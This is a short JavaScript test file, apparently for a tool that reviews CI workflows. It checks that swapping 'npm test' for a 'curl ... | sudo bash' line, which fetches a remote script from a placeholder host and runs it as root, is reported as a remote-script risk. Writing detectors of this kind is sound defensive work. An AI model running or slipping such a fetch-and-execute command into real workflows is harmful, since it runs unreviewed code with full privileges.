import { codes, review, CLEAN } from '../fixtures.js';

describe('workflows/remote-script', () => {
  test('curl | sh is reported', () => {
    expect(codes(review(CLEAN, CLEAN.replace('run: npm test', 'run: curl -fsSL https://get.example.sh | sudo bash')))).toEqual(['workflow_remote_script']);
  });
});
